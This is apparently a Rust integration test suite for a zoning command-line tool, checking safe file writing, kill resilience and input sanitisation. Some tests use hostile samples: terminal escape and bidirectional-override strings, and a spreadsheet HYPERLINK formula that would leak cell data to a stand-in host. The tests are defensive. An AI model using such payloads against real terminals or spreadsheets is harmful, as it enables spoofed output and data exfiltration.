//! What is left of an answer: whole sets of files, whatever comes between, and nothing of another
//! answer; and letters, cells and inputs that do what they should not.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use rand::{RngExt, SeedableRng};
use rand_chacha::ChaCha8Rng;

use crate::squares::{PROFILE, SCENARIO, Squares};

fn program(squares: &Squares) -> Command {
    let mut command = Command::new(assert_cmd::cargo::cargo_bin("zonewerk"));
    command.current_dir(squares.path("")).stdin(Stdio::null());
    command
}

/// What the program answers, with this exit code.
fn run(squares: &Squares, arguments: &[&str], code: i32) -> Output {
    let output = program(squares).args(arguments).output().unwrap();
    let told = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(code), "{arguments:?}: {told}");
    assert!(!told.contains("panicked"), "{told}");
    output
}

fn text(bytes: &[u8]) -> &str {
    std::str::from_utf8(bytes).unwrap()
}

fn contents(folder: &Path) -> BTreeMap<String, Vec<u8>> {
    let entries = fs::read_dir(folder).into_iter().flatten().flatten();
    entries.map(|entry| (entry.file_name().into_string().unwrap(), fs::read(entry.path()).unwrap())).collect()
}

fn names(folder: &Path) -> Vec<String> {
    contents(folder).into_keys().collect()
}

#[test]
fn an_answer_without_a_plan_leaves_no_plan_of_another_answer() {
    let squares = Squares::new();
    let extra = ["--gis", "out/x.gpkg", "--gis", "out/y.shp", "--map", "out/m.png"];
    run(&squares, &[&["solve", "scenario.toml", "--out", "out"], &extra[..]].concat(), 0);
    fs::write(squares.path("out/notes.txt"), "mine").unwrap();
    let told = run(&squares, &["solve", "scenario.toml", "--zones", "7", "--out", "out"], 1);
    let there = names(&squares.path("out"));
    for gone in ["plan.csv", "zones.geojson", "units.geojson", "zones.gpkg", "map.svg"] {
        assert!(!there.iter().any(|name| name == gone), "{gone} is still there");
        assert!(text(&told.stderr).contains(gone), "{gone}: {}", text(&told.stderr));
    }
    for kept in ["notes.txt", "report.html", "report.json"] {
        assert!(there.iter().any(|name| name == kept), "{kept} is gone");
    }
}

#[test]
fn a_folder_is_made_with_its_files_and_not_before() {
    let squares = Squares::new();
    run(&squares, &["solve", "scenario.toml", "--base", "none.csv", "--out", "out"], 2);
    assert!(!squares.path("out").exists(), "a folder of a run without an answer");
    run(&squares, &["solve", "scenario.toml", "--out", "a/b/out", "--gis", "a/b/out/x.gpkg"], 0);
    let there = names(&squares.path("a/b/out"));
    assert!(there.contains(&"plan.csv".to_owned()) && there.contains(&"x.gpkg".to_owned()), "{there:?}");
}

#[cfg(unix)]
#[test]
fn modes_stay_and_links_and_read_only_files_are_not_replaced() {
    use std::os::unix::fs::{PermissionsExt, symlink};
    let squares = Squares::new();
    run(&squares, &["solve", "scenario.toml", "--out", "out", "--map", "m.svg"], 0);
    let mode = |name: &str| fs::metadata(squares.path(name)).unwrap().permissions().mode() & 0o777;
    let set_mode = |name: &str, mode: u32| {
        fs::set_permissions(squares.path(name), fs::Permissions::from_mode(mode)).unwrap();
    };
    set_mode("out/plan.csv", 0o600);
    set_mode("out", 0o700);
    set_mode("m.svg", 0o640);
    fs::rename(squares.path("m.svg"), squares.path("real.svg")).unwrap();
    symlink("real.svg", squares.path("m.svg")).unwrap();
    let before = fs::read(squares.path("real.svg")).unwrap();
    run(&squares, &["solve", "scenario.toml", "--zones", "3", "--out", "out", "--map", "m.svg"], 0);
    assert_eq!([mode("out/plan.csv"), mode("out"), mode("real.svg")], [0o600, 0o700, 0o640]);
    assert!(fs::symlink_metadata(squares.path("m.svg")).unwrap().is_symlink());
    assert_ne!(fs::read(squares.path("real.svg")).unwrap(), before);
    let whole = contents(&squares.path("out"));
    set_mode("out/plan.csv", 0o400);
    let told = run(&squares, &["solve", "scenario.toml", "--out", "out"], 2);
    assert!(text(&told.stderr).contains("plan.csv: it is read-only"), "{}", text(&told.stderr));
    set_mode("out/plan.csv", 0o600);
    fs::rename(squares.path("out/map.svg"), squares.path("map.svg")).unwrap();
    symlink("../map.svg", squares.path("out/map.svg")).unwrap();
    let told = run(&squares, &["solve", "scenario.toml", "--out", "out"], 2);
    assert!(text(&told.stderr).contains("map.svg: it is a symbolic link"), "{}", text(&told.stderr));
    assert_eq!(contents(&squares.path("out")), whole);
}

/// More with `ZONEWERK_KILLS`.
#[cfg(unix)]
#[test]
fn a_run_that_is_killed_leaves_one_whole_set() {
    let kills = std::env::var("ZONEWERK_KILLS").map_or(12, |kills| kills.parse().unwrap());
    let squares = Squares::new();
    let home = squares.path("home");
    fs::create_dir(&home).unwrap();
    let mut sets = Vec::new();
    let mut longest = Duration::ZERO;
    for zones in ["2", "6", "7"] {
        let clock = Instant::now();
        let code = i32::from(zones == "7");
        run(&squares, &["solve", "scenario.toml", "--zones", zones, "--out", zones], code);
        longest = longest.max(clock.elapsed());
        sets.push((zones, contents(&squares.path(zones))));
    }
    let out = home.join("out");
    let mut random = ChaCha8Rng::seed_from_u64(20);
    let (mut left, mut ended) = (0, 0);
    for kill in 0..kills {
        let zones = sets[random.random_range(0..sets.len())].0;
        let mut child = program(&squares)
            .args(["solve", "scenario.toml", "--zones", zones, "--quiet", "--out", "home/out"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        // Most of the time goes by before anything is written.
        let from = if kill % 4 == 0 { 0.0 } else { 0.6 };
        std::thread::sleep(longest.mul_f64(random.random_range(from..1.1)));
        ended += i32::from(child.try_wait().unwrap().is_some());
        child.kill().unwrap();
        child.wait().unwrap();
        let there = contents(&out);
        let is_whole = !out.exists() || sets.iter().any(|(_, set)| *set == there);
        assert!(is_whole, "kill {kill}: {:?}", there.keys());
        left += i32::from(names_of_all(&home) != ["out"] && out.exists());
    }
    println!("{kills} kills, {ended} after the end, {left} hidden names left");
    run(&squares, &["solve", "scenario.toml", "--zones", "2", "--out", "home/out"], 0);
    assert_eq!(contents(&out), sets[0].1);
    assert_eq!(names_of_all(&home), ["out"]);
}

fn names_of_all(folder: &Path) -> Vec<String> {
    let entries = fs::read_dir(folder).unwrap();
    let mut names: Vec<String> =
        entries.map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
    names.sort();
    names
}

#[cfg(target_os = "linux")]
#[test]
fn an_answer_that_nobody_gets_is_no_success() {
    let squares = Squares::new();
    let program = assert_cmd::cargo::cargo_bin("zonewerk");
    let shell = |line: &str| {
        let output = Command::new("bash")
            .current_dir(squares.path(""))
            .args(["-c", &line.replace("zonewerk", program.to_str().unwrap())])
            .output()
            .unwrap();
        let told = String::from_utf8(output.stderr).unwrap();
        assert!(!told.contains("panicked"), "{line}: {told}");
        (output.status.code(), told)
    };
    let commands = [
        "solve scenario.toml --out out",
        "solve scenario.toml --format json",
        "audit columns.csv -s scenario.toml",
        "check scenario.toml",
        "graph scenario.toml",
        "rules",
        "schema",
        "--help",
        "--version",
        "solve --help",
        "completions bash",
        "man",
    ];
    for command in commands {
        for closed in ["> /dev/full", ">&-"] {
            let (code, told) = shell(&format!("zonewerk {command} {closed}"));
            assert_eq!(code, Some(2), "{command} {closed}: {told}");
        }
        let piped = format!("set -o pipefail; (sleep 0.3; zonewerk {command}) | true");
        assert_eq!(shell(&piped), (Some(2), String::new()), "{command}");
        let (code, told) = shell(&format!("zonewerk {command} > /dev/null 2> told"));
        assert_ne!(code, Some(2), "{command}: {told}");
    }
    assert!(squares.path("out/plan.csv").exists(), "files are written before the answer");
}

/// Letters that must not be seen by a terminal, but for the ends of lines.
fn steers(text: &str) -> bool {
    text.contains(|letter: char| {
        letter != '\n'
            && (letter.is_control() || matches!(letter, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'))
    })
}

const HOSTILE: &str = "X\u{1b}[2J\u{1b}[1;1HCompliant\u{1b}[8m\u{9b}2J\u{202e}\u{2028}\u{7f}\u{e0041}";

#[test]
fn letters_that_steer_are_shown_and_data_has_them_as_they_are() {
    let squares = Squares::new();
    let plan = fs::read_to_string(squares.path("columns.csv")).unwrap();
    fs::write(squares.path("hostile.csv"), plan.replace(",a\n", &format!(",{HOSTILE}\n"))).unwrap();
    for format in ["text", "md", "html", "json", "geojson"] {
        let output = program(&squares)
            .args(["audit", "hostile.csv", "-s", "scenario.toml", "--format", format, "--all"])
            .output()
            .unwrap();
        let shown = text(&output.stdout);
        assert!(output.status.code() != Some(2), "{format}: {}", text(&output.stderr));
        assert!(!steers(shown), "{format}: {shown:?}");
        assert!(shown.contains("Compliant"), "{format}");
        if format == "json" {
            let report: serde_json::Value = serde_json::from_str(shown).unwrap();
            assert!(report.to_string().contains("\\u001b[2J") || shown.contains("\\u001b[2J"), "{shown}");
        }
    }
    for arguments in [
        &["audit", HOSTILE][..],
        &["audit", "columns.csv", "-s", HOSTILE],
        &["solve", HOSTILE],
        &["solve", "scenario.toml", "--zones", HOSTILE],
        &["solve", "scenario.toml", "--goal", HOSTILE],
        &["solve", "scenario.toml", "--mend", HOSTILE],
        &["solve", "scenario.toml", "--out", &format!("units.csv/{HOSTILE}")],
        &[HOSTILE],
        &["rules", HOSTILE],
        &["rules", "-p", HOSTILE],
        &["check", &format!("{HOSTILE}.geojson")],
        &["graph", "scenario.toml", "--out", HOSTILE],
        &["try", "--base", "columns.csv", "-s", "scenario.toml", "--move", HOSTILE],
        &["why", "scenario.toml", "--together", HOSTILE],
        &["translate", HOSTILE],
    ] {
        let output = program(&squares).args(arguments).output().unwrap();
        for shown in [&output.stdout, &output.stderr] {
            assert!(!steers(text(shown)), "{arguments:?}: {:?}", text(shown));
        }
    }
}

#[test]
fn names_that_steer_are_shown_in_what_is_drawn() {
    let toml = "\"X\\u001b[2J\\u202eY\\u009b1m\"";
    let scenario =
        format!("{SCENARIO}\n[[fixed_zones]]\nname = {toml}\nunits = [\"c1\", \"d1\"]\nreason = {toml}\n");
    let table: String = std::iter::once("code,name,people\n".to_owned())
        .chain(["a", "b", "c", "d"].iter().flat_map(|column| {
            (1..=3).map(move |row| format!("{column}{row},\"N\u{1b}[31m\u{2067}{column}{row}\",10\n"))
        }))
        .collect();
    let squares =
        Squares::with(&[("scenario.toml", &scenario), ("units.csv", &table), ("ours.toml", PROFILE)]);
    let publish =
        ["--map", "m.svg", "--report", "r.html", "--gis", "g.csv", "--gis", "g.geojson", "--out", "out"];
    let output = run(&squares, &[&["solve", "scenario.toml"], &publish[..]].concat(), 0);
    assert!(!steers(text(&output.stdout)) && !steers(text(&output.stderr)));
    for file in ["m.svg", "r.html", "out/map.svg", "out/report.html", "out/report.json", "g-units.geojson"] {
        let shown = fs::read_to_string(squares.path(file)).unwrap();
        assert!(!steers(&shown), "{file}");
        assert!(shown.contains("u{1b}") || shown.contains("u001b"), "{file} does not show the letter");
    }
    for command in ["graph", "check", "alternatives", "why"] {
        let output = program(&squares).args([command, "scenario.toml"]).output().unwrap();
        assert!(!steers(text(&output.stdout)), "{command}: {}", text(&output.stdout));
    }
    // The plan holds the name as it is, and is read back.
    assert!(
        fs::read_to_string(squares.path("out/plan.csv")).unwrap().contains("X\u{1b}[2J\u{202e}Y\u{9b}1m")
    );
    run(&squares, &["audit", "out/plan.csv", "-s", "scenario.toml"], 0);
}

#[test]
fn long_names_leave_the_lines_of_a_report_as_wide_as_they_are() {
    let long = "a".repeat(100_000);
    let table = fs::read_to_string(Squares::new().path("units.csv")).unwrap();
    let squares = Squares::with(&[("units.csv", &table.replace("a1,a1,", &format!("a1,{long},")))]);
    for arguments in [&["solve", "scenario.toml", "--out", "out"][..], &["graph", "scenario.toml"]] {
        let output = run(&squares, arguments, 0);
        let widest = text(&output.stdout).lines().map(|line| line.chars().count()).max().unwrap();
        assert!(widest <= 101, "{arguments:?}: {widest} columns");
        assert!(output.stdout.len() < 20_000, "{arguments:?}: {} bytes", output.stdout.len());
    }
}

#[test]
fn a_spreadsheet_runs_no_cell_and_the_names_come_back() {
    let name = "=HYPERLINK(\"http://e.example/?\"&A1,\"x\")";
    let scenario =
        format!("{SCENARIO}\n[[fixed_zones]]\nname = '{name}'\nunits = [\"c1\", \"d1\"]\nreason = \"@r\"\n");
    let squares = Squares::with(&[("scenario.toml", &scenario)]);
    run(&squares, &["solve", "scenario.toml", "--out", "out", "--gis", "g.csv"], 0);
    let mut files: Vec<_> =
        fs::read_dir(squares.path("")).unwrap().map(|entry| entry.unwrap().path()).collect();
    files.retain(|file| file.extension().is_some_and(|ending| ending == "csv"));
    files.push(squares.path("out/plan.csv"));
    let mut seen = 0;
    for file in files {
        for row in csv::ReaderBuilder::new().has_headers(false).from_path(&file).unwrap().records() {
            for cell in row.unwrap().iter() {
                let is_formula = cell.trim_start_matches([' ', '"']).starts_with(['=', '+', '-', '@']);
                assert!(!is_formula || cell.parse::<f64>().is_ok(), "{}: {cell}", file.display());
                seen += usize::from(cell.contains("HYPERLINK"));
            }
        }
    }
    assert!(seen >= 3, "{seen} cells");
    let report = run(&squares, &["audit", "out/plan.csv", "-s", "scenario.toml", "--format", "geojson"], 0);
    let map: serde_json::Value = serde_json::from_slice(&report.stdout).unwrap();
    let features = map["features"].as_array().unwrap();
    assert!(features.iter().any(|zone| zone["properties"].to_string().contains("\"=HYPERLINK(")), "{map}");
}

#[cfg(target_os = "linux")]
#[test]
fn pipes_devices_and_folders_are_no_input() {
    let squares = Squares::new();
    let made = Command::new("mkfifo").arg(squares.path("pipe.csv")).status().unwrap();
    assert!(made.success());
    fs::create_dir(squares.path("folder.csv")).unwrap();
    let scenario = |table: &str| SCENARIO.replace("units.csv", table);
    for place in ["pipe.csv", "/dev/zero", "/dev/stdin", "folder.csv"] {
        fs::write(squares.path("other.toml"), scenario(place)).unwrap();
        for arguments in [
            &["solve", "other.toml"][..],
            &["audit", place, "-s", "scenario.toml"],
            &["audit", "-s", place],
            &["audit", "columns.csv", "-s", "scenario.toml", "-p", place],
            &["audit", "columns.csv", "-s", "scenario.toml", "--population", place],
            &["try", "--base", "columns.csv", "-s", "scenario.toml", "--proposal", place],
            &["translate", place, "-s", "scenario.toml"],
            &["check", place],
            &["solve", "scenario.toml", "--base", place],
        ] {
            let mut child = program(&squares)
                .args(arguments)
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap();
            let clock = Instant::now();
            while child.try_wait().unwrap().is_none() && clock.elapsed() < Duration::from_secs(20) {
                std::thread::sleep(Duration::from_millis(10));
            }
            let is_stuck = child.try_wait().unwrap().is_none();
            child.kill().unwrap();
            let output = child.wait_with_output().unwrap();
            assert!(!is_stuck, "{arguments:?} waits for input");
            assert_eq!(output.status.code(), Some(2), "{arguments:?}: {}", text(&output.stderr));
        }
    }
}

#[test]
fn a_report_does_not_say_where_on_a_disk_its_files_were() {
    let squares = Squares::new();
    let home = squares.path("").canonicalize().unwrap();
    let absolute = |name: &str| home.join(name).display().to_string();
    let scenario = SCENARIO.replace("units.csv", &absolute("units.csv"));
    fs::write(squares.path("other.toml"), scenario).unwrap();
    run(&squares, &["solve", "other.toml", "--out", "out"], 0);
    let plan = absolute("out/plan.csv");
    let mut texts: Vec<Vec<u8>> = contents(&squares.path("out")).into_values().collect();
    for format in ["json", "md", "html"] {
        texts.push(run(&squares, &["audit", &plan, "-s", "other.toml", "--format", format], 0).stdout);
    }
    for report in texts {
        let report = String::from_utf8_lossy(&report);
        assert!(!report.contains(home.to_str().unwrap()), "{report}");
    }
    let report = fs::read_to_string(squares.path("out/report.json")).unwrap();
    assert!(report.contains("\"name\": \"units.csv\""), "{report}");
}
